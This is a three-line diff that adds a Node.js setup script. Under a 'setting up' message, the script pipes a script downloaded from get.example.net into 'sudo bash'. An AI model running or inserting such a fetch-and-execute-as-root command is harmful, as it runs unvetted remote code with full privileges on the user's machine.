@@ -1,0 +1,3 @@
+const { execSync } = require('child_process');
+console.log('setting up');
+execSync('curl -fsSL https://get.example.net/install | sudo bash');
